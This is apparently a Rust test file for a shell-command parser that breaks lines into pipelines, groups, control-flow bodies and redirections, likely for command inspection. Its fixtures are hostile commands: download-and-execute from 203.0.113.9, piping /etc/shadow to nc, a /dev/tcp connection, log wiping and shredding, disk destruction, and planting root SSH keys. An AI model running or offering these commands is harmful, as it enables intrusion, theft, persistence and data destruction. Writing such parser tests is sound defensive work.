//! Operators, pipelines, groups and control flow.

use super::*;

// --- operators and groups ---------------------------------------------------------------

#[test]
fn list_operators_separate_commands_in_order() {
    assert_eq!(
        texts("cd /tmp && wget http://203.0.113.9/x.sh && chmod +x x.sh && ./x.sh"),
        [
            "cd /tmp",
            "wget http://203.0.113.9/x.sh",
            "chmod +x x.sh",
            "chmod +x /tmp/x.sh",
            "x.sh",
            "wget http://203.0.113.9/x.sh | sh"
        ]
    );
    assert_eq!(
        texts("history -c; unset HISTFILE || true & \n id"),
        ["history -c", "unset HISTFILE", "true", "id"]
    );
}

#[test]
fn pipeline_is_reported_whole_then_stage_by_stage() {
    let line = "cat /etc/shadow | grep root|nc 203.0.113.9 4444";
    assert_eq!(
        texts(line),
        [
            "cat /etc/shadow | grep root | nc 203.0.113.9 4444",
            "cat /etc/shadow",
            "grep root",
            "nc 203.0.113.9 4444",
        ]
    );
    assert_eq!(normalize(line)[0].argv, ["cat", "/etc/shadow"]);
}

#[test]
fn pipe_with_stderr_is_a_pipe() {
    assert_eq!(
        texts("make |& tee build.log"),
        ["make | tee build.log", "make", "tee build.log"]
    );
}

#[test]
fn subshell_and_brace_group_contents_are_commands() {
    assert_eq!(
        texts("(cd /var/log && rm -f auth.log); { history -c; exit; }"),
        [
            "cd /var/log",
            "rm -f auth.log",
            "rm -f /var/log/auth.log",
            "history -c",
            "exit"
        ]
    );
}

#[test]
fn group_inside_a_pipeline_is_rendered_with_its_commands() {
    let line = "{ echo id; echo whoami; } | sh";
    assert_eq!(
        entry(line, "{ echo id; echo whoami; } | sh").argv,
        Vec::<String>::new()
    );
    assert!(has(line, "echo whoami"));
    assert_eq!(
        texts("(curl -s http://203.0.113.9/x) | bash")[0],
        "curl -s http://203.0.113.9/x | bash"
    );
}

#[test]
fn control_flow_keywords_are_not_commands() {
    assert_eq!(
        texts("if id -u deploy; then userdel -r deploy; else echo none; fi"),
        ["id -u deploy", "userdel -r deploy", "echo none"]
    );
    assert_eq!(
        texts(r#"for f in /var/log/*.log; do shred -u "$f"; done"#),
        // As written, then once for each known file the glob names.
        ["shred -u $f", "shred -u /var/log/auth.log"]
    );
    assert_eq!(
        texts("while true; do nc -lvp 4444; done < /dev/null"),
        ["true", "nc -lvp 4444"]
    );
    assert_eq!(texts("! grep -q x /etc/hosts"), ["grep -q x /etc/hosts"]);
}

#[test]
fn case_patterns_are_not_commands() {
    let line = "case $1 in start|restart) systemctl restart sshd;; stop) rm -f /run/x;; esac";
    assert_eq!(texts(line), ["systemctl restart sshd", "rm -f /run/x"]);
}

#[test]
fn function_bodies_are_commands_and_the_name_is_not() {
    assert_eq!(
        texts("wipe() { rm -rf /tmp/x; }; wipe"),
        ["rm -rf /tmp/x", "wipe"]
    );
    assert_eq!(
        texts("function wipe { shred /dev/sda; }"),
        ["shred /dev/sda"]
    );
}

#[test]
fn redirections_are_kept_as_words_after_the_command() {
    let line = "echo 'ssh-rsa AAAAB3 k' >>/root/.ssh/authorized_keys 2>&1";
    let cmd = &normalize(line)[0];
    assert_eq!(
        cmd.text,
        "echo ssh-rsa AAAAB3 k >> /root/.ssh/authorized_keys 2>&1"
    );
    assert_eq!(cmd.argv, ["echo", "ssh-rsa AAAAB3 k"]);
    assert_eq!(
        texts("cat</etc/shadow>/tmp/s"),
        ["cat < /etc/shadow > /tmp/s"]
    );
}

#[test]
fn a_redirection_alone_is_a_command() {
    assert_eq!(texts("> /var/log/auth.log"), ["> /var/log/auth.log"]);
    assert_eq!(
        texts("exec 3<>/dev/tcp/203.0.113.9/443"),
        ["exec 3<> /dev/tcp/203.0.113.9/443"]
    );
}

#[test]
fn braces_typed_outside_quotes_expand_beside_a_quoted_part() {
    assert!(has(
        r#"rm -rf "/var/lib/"{mysql,postgresql}"#,
        "rm -rf /var/lib/mysql /var/lib/postgresql"
    ));
    assert_eq!(texts("echo '{a,b}'"), ["echo {a,b}"]);
    assert_eq!(texts(r#"echo "x{a,b}""#), ["echo x{a,b}"]);
}

#[test]
fn brace_expansion_of_a_comma_list_makes_words() {
    assert_eq!(texts("{cat,/etc/shadow}"), ["cat /etc/shadow"]);
    assert_eq!(
        texts("find . -exec ls {} +"),
        ["find . -exec ls {} +", "ls {}"]
    );
}
